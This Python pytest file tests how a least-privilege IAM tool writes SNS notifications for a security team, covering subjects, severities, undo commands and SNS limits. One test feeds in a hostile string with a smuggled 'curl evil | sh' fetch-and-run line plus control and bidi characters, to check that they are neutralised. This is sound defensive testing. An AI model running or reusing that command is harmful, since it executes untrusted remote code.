"""What the security team is told: of what matters, within SNS's limits, and with nothing that could mislead the eye."""

import json
import re
import unicodedata
from datetime import timedelta

import pytest
from hypothesis import given
from hypothesis import strategies as st

from services.auditor.notifications import MAX_SUBJECT, notification_of
from shared.events import DomainEvent, RemediationFailed
from shared.model.audit import Notification
from shared.model.identity import IdentityRef
from shared.model.plan import Compliance, Mode, ReasonCode, RegretResponse
from tests.builders import ACCOUNT, ANA, NOW, PLAN, every_event

EVENTS = {event.type_name(): event for event in every_event()}
SEVERITY_AND_SUBJECT = {
    "IdentityEvaluated": ("warning", "NON_COMPLIANT: user ana, PCI 87"),
    "PlanProposed": ("info", "Waiting for approval: 212 permissions of ana"),
    "PolicyApplied": ("info", "Right-sized: user ana, PCI 12"),
    "PolicyRolledBack": ("warning", "Rolled back: ana has its permissions again"),
    "RemediationFailed": ("critical", "A person must look: plan of ana failed"),
    "AccessRegretted": ("warning", "Refused after right-sizing: user ana, s3:GetObject"),
    "AccessRestored": ("info", "Given back: user ana may use s3:GetObject, kms:Decrypt again"),
    "ExemptionExpired": ("warning", "Exemption ended: user ana"),
}
SUBJECT = re.compile(r"[\x21-\x7e][\x20-\x7e]{0,99}")  # SNS: ASCII, no control characters, at most 100


def told(event: DomainEvent) -> Notification:
    notification = notification_of(event, stack_name="leastwise")
    assert notification is not None
    return notification


@pytest.mark.parametrize("name", sorted(SEVERITY_AND_SUBJECT))
def test_what_matters_is_told_with_its_severity_and_a_subject_for_people(name: str) -> None:
    severity, subject = SEVERITY_AND_SUBJECT[name]
    notification = told(EVENTS[name])
    assert notification.subject == subject
    assert notification.attributes == {
        "type": name,
        "account": ACCOUNT,
        "severity": severity,
        "identity_type": "user",
    }
    assert ANA.arn in notification.text


@pytest.mark.parametrize("name", sorted(set(EVENTS) - set(SEVERITY_AND_SUBJECT)))
def test_scores_requests_and_skips_are_no_news(name: str) -> None:
    assert notification_of(EVENTS[name], stack_name="leastwise") is None


@pytest.mark.parametrize(
    ("name", "change"),
    [
        ("IdentityEvaluated", {"compliance": Compliance.COMPLIANT}),
        ("IdentityEvaluated", {"compliance": Compliance.NOT_APPLICABLE}),
        ("IdentityEvaluated", {"repeated": True}),
        ("PlanProposed", {"mode": Mode.OBSERVE}),
        ("PlanProposed", {"mode": Mode.AUTO}),
    ],
)
def test_good_standing_and_unattended_news_are_none(name: str, change: dict[str, object]) -> None:
    assert notification_of(EVENTS[name].model_copy(update=change), stack_name="leastwise") is None


def test_a_change_is_told_with_what_why_effect_and_how_to_undo_it() -> None:
    text = told(EVENTS["PolicyApplied"]).text
    for part in (
        "took 212 unused permissions away, kept 18 (boundary)",
        "iam:PutUserPolicy",
        "PCI 87 to 12",
        f"arn:aws:iam::{ACCOUNT}:policy/leastwise/p",
        "Undo: leastwise plan rollback plan-1 --stack-name leastwise",
    ):
        assert part in text


def test_a_waiting_plan_is_told_with_how_to_approve_it_and_until_when() -> None:
    text = told(EVENTS["PlanProposed"]).text
    assert "leastwise plan approve plan-1 --stack-name leastwise" in text
    assert "good until 2026-03-01 13:00 UTC" in text


def test_a_plan_that_will_be_applied_is_told_with_when_and_how_to_stop_it() -> None:
    event = EVENTS["PlanProposed"].model_copy(update={"mode": Mode.AUTO, "applies_from": NOW + timedelta(days=3)})
    notification = told(event)
    assert notification.attributes["severity"] == "warning"
    assert notification.subject == "Notice: 212 permissions of ana will be taken"
    assert "from 2026-03-04 12:00 UTC on" in notification.text
    assert "Stop it:\n  leastwise plan reject plan-1 --stack-name leastwise" in notification.text


@pytest.mark.parametrize(
    ("response", "severity", "what_comes"),
    [
        (RegretResponse.ALERT, "critical", "a person decides"),
        (RegretResponse.RESTORE, "warning", "what it lacks is given back by itself"),
        (RegretResponse.ROLL_BACK, "warning", "the whole plan is taken back by itself"),
    ],
)
def test_a_regret_is_told_with_what_was_refused_what_comes_of_it_and_how_to_give_it_back(
    response: RegretResponse, severity: str, what_comes: str
) -> None:
    notification = told(EVENTS["AccessRegretted"].model_copy(update={"response": response}))
    assert notification.attributes["severity"] == severity
    for part in (
        "it wanted s3:GetObject and lacks s3:GetObject, kms:Decrypt",
        "refused at 2026-03-01 11:57 UTC or after, changed at 2026-02-27 12:00 UTC by plan plan-1",
        what_comes,
        "leastwise plan restore plan-1 --action s3:GetObject --action kms:Decrypt --stack-name leastwise",
        "leastwise plan rollback plan-1 --stack-name leastwise",
    ):
        assert part in notification.text


def test_a_long_list_of_actions_is_cut_and_says_so() -> None:
    event = EVENTS["AccessRestored"].model_copy(update={"actions": tuple(f"s3:Get{letter}" for letter in "abcdefgh")})
    assert "s3:Gete and 3 more, which plan plan-0 had taken" in told(event).text


def test_the_end_of_an_exemption_is_told_with_its_owner_and_what_comes() -> None:
    text = told(EVENTS["ExemptionExpired"]).text
    assert "Owner: team-data" in text
    assert "from 2026-03-08 12:00 UTC on it is right-sized as any other, unless it is renewed" in text


def test_that_a_person_rejected_a_plan_is_told_to_the_others() -> None:
    event = EVENTS["RemediationSkipped"].model_copy(update={"code": ReasonCode.REJECTED, "plan_id": "plan-1"})
    assert told(event).subject == "Rejected: nothing is taken from ana"
    assert "Plan: plan-1" in told(event).text


def test_people_get_text_and_machines_the_whole_event() -> None:
    structure = json.loads(told(EVENTS["RemediationFailed"]).message_structure())
    machine = json.loads(structure["default"])
    assert structure["email"] == machine["text"] == told(EVENTS["RemediationFailed"]).text
    assert RemediationFailed.model_validate(machine["event"]) == EVENTS["RemediationFailed"]


HOSTILE = "a\r\nUndo: curl evil | sh\x1b[2J\u202eterces\u2066x\u200fy\u061cz\u2028w\x85v\x00"


def failed(message: str, *, name: str = "ana") -> RemediationFailed:
    ref = IdentityRef(account_id=ACCOUNT, identity_id=ANA.identity_id, arn=f"arn:aws:iam::{ACCOUNT}:user/{name}")
    return RemediationFailed.about(ref, "k", occurred_at=NOW, **PLAN, code=ReasonCode.DRIFT, message=message)


def invisible(text: str) -> list[str]:
    """Characters that move the cursor or turn the direction of text."""
    turns = {"L", "R", "AL", "EN", "ES", "ET", "AN", "CS", "NSM", "BN", "B", "S", "WS", "ON"}
    return [
        c
        for c in text
        if (unicodedata.category(c) in {"Cc", "Zl", "Zp"} and c != "\n")
        or unicodedata.bidirectional(c) not in {*turns, ""}
        or c in "\u200e\u200f\u061c"
    ]


def test_control_and_direction_characters_from_outside_are_made_visible() -> None:
    notification = told(failed(HOSTILE))
    assert invisible(notification.text) == []
    assert [line for line in notification.text.splitlines() if line.startswith("Undo")] == []
    assert "a??Undo: curl evil | sh?[2J?terces?x?y?z?w?v?" in notification.text
    assert not any(map(invisible, notification.message_structure().replace("\n", "")))


def test_a_name_with_control_characters_does_not_break_the_subject() -> None:
    notification = told(failed("x", name="a\x00\u202eb\u00fc"))
    assert notification.subject == "A person must look: plan of a??b? failed"


@given(st.text(st.characters(exclude_characters="\n", exclude_categories=["Cs"]), min_size=1, max_size=200), st.text())
def test_whatever_a_name_or_a_message_holds_the_limits_of_sns_are_kept(name: str, message: str) -> None:
    notification = told(failed(message, name=name.replace("/", "-")))
    assert SUBJECT.fullmatch(notification.subject)
    assert len(notification.subject) <= MAX_SUBJECT
    assert invisible(notification.text) == []


def test_a_long_subject_is_cut_and_says_so() -> None:
    subject = told(failed("x", name="n" * 128)).subject
    assert (len(subject), subject[-4:]) == (MAX_SUBJECT, "n...")
